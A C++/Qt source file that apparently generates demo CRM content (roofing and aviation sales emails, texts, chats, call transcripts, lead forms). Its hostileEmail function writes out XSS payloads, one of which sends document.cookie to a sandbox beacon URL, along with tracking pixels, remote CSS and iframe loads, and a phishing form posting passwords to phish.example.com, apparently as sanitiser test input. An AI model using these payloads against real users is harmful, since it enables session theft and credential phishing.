#include "DemoContent.h"

#include "DemoOrganization.h"
#include "DemoRandom.h"

namespace repdesk {

namespace {

QList<QString> list(std::initializer_list<const char *> items)
{
    QList<QString> result;
    for (const char *item : items)
        result.append(QString::fromUtf8(item));
    return result;
}

const QList<QString> &subjects(int topic)
{
    static const QList<QString> roofing = list({
        "Roof leak after last night's storm", "Quote request: full roof replacement",
        "Gutter cleaning and gutter guards", "Skylight installation question", "Insurance claim for hail damage",
        "Metal roof vs. architectural shingles?", "Follow-up on your inspection report",
        "Scheduling a free roof inspection", "Chimney flashing repair", "Commercial flat roof coating"});
    static const QList<QString> aviation = list({
        "Inquiry: 2016 Cessna 172S listing", "Pre-buy inspection scheduling", "Financing options for a Piper PA-28",
        "Avionics upgrade quote (G1000 NXi)", "Hangar availability at Coast City", "Trade-in valuation request",
        "Annual inspection due next month"});
    return topic == 1 ? aviation : roofing;
}

const QList<QString> &inboundSentences(int topic)
{
    static const QList<QString> roofing = list({
        "We noticed water stains on the ceiling of the upstairs bedroom after the rain.",
        "Could you send over a quote for replacing the shingles on a 2,400 sq ft house?",
        "Our HOA needs three bids by the end of the month — can you inspect this week?",
        "The gutters on the north side are pulling away from the fascia.",
        "Is the metal roof option worth it if we plan to stay 10+ years?",
        "Our insurance adjuster is coming Thursday; can someone from your team be there?",
        "Thanks for the quick visit yesterday, the crew was great."});
    static const QList<QString> aviation = list({
        "Is the 172S still available, and does it have the ADS-B upgrade?",
        "We would like to schedule a pre-buy inspection at an independent shop.",
        "What financing terms do you offer for a 20% down payment?",
        "Could you quote a G1000 NXi retrofit including installation downtime?",
        "Our flight school needs two trainers before the summer season."});
    return topic == 1 ? aviation : roofing;
}

const QList<QString> &outboundSentences(int topic)
{
    static const QList<QString> roofing = list({
        "Thanks for reaching out! We can have an inspector on site Tuesday between 9 and 11am.",
        "Attached is the estimate we discussed; it includes tear-off and disposal.",
        "Good news: the hail damage should be covered under your policy.",
        "We have an opening next week for the gutter guard installation.",
        "Following up on the quote we sent over last week — any questions?"});
    static const QList<QString> aviation = list({
        "Yes, the aircraft is still available and the ADS-B Out upgrade was done in 2021.",
        "I have attached the logbooks and the last annual inspection report.",
        "Our financing partner can offer 7.2% APR over 15 years for qualified buyers.",
        "We can schedule the pre-buy at your preferred shop any day next week."});
    return topic == 1 ? aviation : roofing;
}

} // namespace

int DemoContent::hostileVariantCount()
{
    return 8;
}

DemoContent::DemoContent(DemoRandom &random, const DemoOrganization &org)
    : m_random(random)
    , m_topic(org.topic)
    , m_brand(org.brand)
    , m_domain(org.domain)
{
}

QString DemoContent::firstName(const QString &name)
{
    const QString first = name.section(QLatin1Char(' '), 0, 0);
    return first.isEmpty() ? name : first;
}

QString DemoContent::subject()
{
    return m_random.pick(subjects(m_topic));
}

QString DemoContent::sentence(bool inbound)
{
    return m_random.pick(inbound ? inboundSentences(m_topic) : outboundSentences(m_topic));
}

QString DemoContent::inboundEmail(const QString &contactName)
{
    const int number = m_inboundEmails++;
    // Every ninth inbound e-mail is hostile, cycling through all variants; every thirteenth a newsletter.
    if (number % 9 == 4)
        return hostileEmail((number / 9) % hostileVariantCount(), contactName);
    if (number % 13 == 7)
        return newsletter();
    return QStringLiteral("<div><p>Hi,</p><p>%1</p><p>%2</p><p>Thanks,<br>%3</p></div>")
        .arg(sentence(true).toHtmlEscaped(), sentence(true).toHtmlEscaped(), contactName.toHtmlEscaped());
}

QString DemoContent::hostileEmail(int variant, const QString &contactName)
{
    const QString signature = QStringLiteral("<p>— %1</p>").arg(contactName.toHtmlEscaped());
    const QString id = QString::number(m_random.range(100000, 999999));
    switch (variant) {
    case 0:
        return QStringLiteral("<p>Hi there!</p><script>alert(1)</script><script src=\"{{SANDBOX_URL}}/beacon/evil.js\"></script>"
                              "<p>Please call me back about the quote.</p>") + signature;
    case 1:
        return QStringLiteral("<p>See the photos of the damage below.</p>"
                              "<img src=\"{{SANDBOX_URL}}/beacon/pixel.gif?id=%1\" width=\"1\" height=\"1\" alt=\"\">")
                   .arg(id) + signature;
    case 2:
        return QStringLiteral("<p>Photo attached:</p><img src=\"x\" onerror=\"alert('xss')\">"
                              "<p onclick=\"document.location='{{SANDBOX_URL}}/beacon/?c='+document.cookie\">Click here for details</p>")
            + signature;
    case 3:
        return QStringLiteral("<p>Please <a href=\"javascript:alert(document.cookie)\">confirm your appointment</a>"
                              " or <a href=\"JaVaScRiPt:void(0)\" onmouseover=\"alert(2)\">reschedule</a>.</p>") + signature;
    case 4:
        return QStringLiteral("<iframe src=\"{{SANDBOX_URL}}/beacon/frame?id=%1\" width=\"600\" height=\"400\"></iframe>"
                              "<p>Our brochure is embedded above.</p>").arg(id) + signature;
    case 5:
        return QStringLiteral("<div style=\"background:url({{SANDBOX_URL}}/beacon/bg.png?id=%1);padding:12px\">"
                              "<p style=\"background-image: url('{{SANDBOX_URL}}/beacon/p.png')\">Styled message with a remote background.</p></div>")
                   .arg(id) + signature;
    case 6:
        return QStringLiteral("<style>body{display:none} .promo{background:url({{SANDBOX_URL}}/beacon/css.png?id=%1)}"
                              " @import url({{SANDBOX_URL}}/beacon/x.css);</style>"
                              "<p class=\"promo\">Message with a style block.</p>").arg(id) + signature;
    default:
        return QStringLiteral("<p>Your account needs verification.</p>"
                              "<form action=\"https://phish.example.com/login\" method=\"post\">"
                              "<input name=\"email\" type=\"email\"><input name=\"password\" type=\"password\">"
                              "<button type=\"submit\">Verify account</button></form>") + signature;
    }
}

QString DemoContent::newsletter()
{
    const QString id = QString::number(m_random.range(1000, 9999));
    return QStringLiteral(
               "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" style=\"font-family:Arial,sans-serif\">"
               "<tr><td><img src=\"{{SANDBOX_URL}}/beacon/newsletter/hero-%1.jpg\" width=\"600\" alt=\"Spring savings\"></td></tr>"
               "<tr><td><h1 style=\"color:#0a5\">Spring savings are here 🌷</h1>"
               "<p>Save 15% on gutter guards and inspections this month.</p>"
               "<p><a href=\"https://example.com/offers?utm_source=newsletter&amp;id=%1\">See all offers</a> · "
               "<a href=\"https://example.com/blog/roof-maintenance\">Read our maintenance guide</a></p>"
               "<img src=\"{{SANDBOX_URL}}/beacon/newsletter/logo.png\" width=\"120\" alt=\"Logo\"></td></tr>"
               "<tr><td style=\"font-size:11px;color:#888\"><a href=\"https://example.com/unsubscribe?id=%1\">Unsubscribe</a></td></tr>"
               "</table>").arg(id);
}

QString DemoContent::outboundEmail(const QString &contactName, const QString &agentName, QStringList *links)
{
    const QString quote = QStringLiteral("https://%1/quotes/%2").arg(m_domain).arg(m_random.range(1000, 9999));
    const QString calendar = QStringLiteral("https://%1/book?agent=%2").arg(m_domain).arg(m_random.range(1, 9));
    if (links)
        *links = {quote, calendar};
    return QStringLiteral("<p>Hi %1,</p><p>%2</p><p>You can review the details here: <a href=\"%3\">View quote</a>,"
                          " or <a href=\"%4\">book a time</a> that suits you.</p><p>Best regards,<br>%5</p>")
        .arg(firstName(contactName).toHtmlEscaped(), sentence(false).toHtmlEscaped(), quote, calendar,
             agentName.toHtmlEscaped());
}

QString DemoContent::text(bool inbound)
{
    static const QList<QString> in = list({"Hi, is anyone available today?", "Can you come by tomorrow morning?",
                                           "Ok sounds good 👍", "What's the total with tax?",
                                           "Running 10 min late, sorry!", "Yes please book it", "Thanks!! 🙏"});
    static const QList<QString> out = list({"Hi! Yes, we can help. What's the best address?",
                                            "Confirmed for 9:30am tomorrow.", "The total comes to $1,284.50 incl. tax.",
                                            "No problem, see you soon.", "Reply STOP to opt out of texts."});
    return m_random.pick(inbound ? in : out);
}

QString DemoContent::liveChat(bool inbound)
{
    static const QList<QString> in = list({"hello?", "I have a question about pricing",
                                           "do you service the north side of town?", "ok thanks", "great, bye!"});
    static const QList<QString> out = list({"Hi there 👋 How can I help you today?",
                                            "Sure! Could you share your email so we can send details?",
                                            "Yes, we cover the whole metro area.", "Anything else I can help with?"});
    return m_random.pick(inbound ? in : out);
}

QString DemoContent::callTranscript(const QString &agentName, const QString &contactName, int lines)
{
    static const QList<QString> agentLines = list({"Thanks for calling, how can I help?", "Let me pull up your file.",
                                                   "We can get someone out on Tuesday.", "I'll email you the quote right after this call.",
                                                   "Is this still the best number to reach you?"});
    static const QList<QString> roofingLines = list({"I'm calling about the estimate.", "There's a leak near the chimney.",
                                                     "Tuesday works for me.", "Great, thank you so much.",
                                                     "Could you also check the gutters?"});
    static const QList<QString> aviationLines = list({"I'm calling about the Skyhawk listing.", "How many hours are on the engine?",
                                                      "Tuesday works for a demo flight.", "Great, thank you so much.",
                                                      "Can you send the logbooks?"});
    const QList<QString> &customerLines = m_topic == 1 ? aviationLines : roofingLines;
    QStringList transcript{
        QStringLiteral("Agent: Thanks for calling %1, this is %2.").arg(m_brand, firstName(agentName)),
        QStringLiteral("Customer: Hi, this is %1.").arg(firstName(contactName))};
    for (int i = 2; i < lines; ++i) {
        transcript.append(i % 2 == 0 ? QStringLiteral("Agent: ") + m_random.pick(agentLines)
                                     : QStringLiteral("Customer: ") + m_random.pick(customerLines));
    }
    return transcript.join(QLatin1Char('\n'));
}

QString DemoContent::callSummary(bool inbound, int durationSeconds)
{
    return QStringLiteral("%1 call, %2m %3s")
        .arg(inbound ? QStringLiteral("Inbound") : QStringLiteral("Outbound"))
        .arg(durationSeconds / 60)
        .arg(durationSeconds % 60);
}

QJsonObject DemoContent::formRequest(const QString &name, const QString &email, const QString &phone, QString *message)
{
    static const QList<QString> campaigns{QStringLiteral("spring-roof-promo"), QStringLiteral("storm-response"),
                                          QStringLiteral("brand-search")};
    static const QList<QString> sources{QStringLiteral("google"), QStringLiteral("facebook"), QStringLiteral("bing")};
    *message = sentence(true);
    return QJsonObject{{QStringLiteral("name"), name},
                       {QStringLiteral("email"), email},
                       {QStringLiteral("phone"), phone},
                       {QStringLiteral("message"), *message},
                       {QStringLiteral("utm_source"), m_random.pick(sources)},
                       {QStringLiteral("utm_medium"), QStringLiteral("cpc")},
                       {QStringLiteral("utm_campaign"), m_random.pick(campaigns)},
                       {QStringLiteral("utm_term"), m_topic == 1 ? QStringLiteral("used cessna for sale")
                                                                 : QStringLiteral("roof replacement near me")},
                       {QStringLiteral("utm_content"), QStringLiteral("ad-variant-%1").arg(QChar(u'a' + m_random.range(0, 2)))}};
}

QString DemoContent::responseDraft(const QString &contactName, const QString &agentName)
{
    return QStringLiteral("<p>Hi %1, thanks for the follow-up. %2</p><p>%3</p>")
        .arg(firstName(contactName).toHtmlEscaped(), sentence(false).toHtmlEscaped(), agentName.toHtmlEscaped());
}

} // namespace repdesk
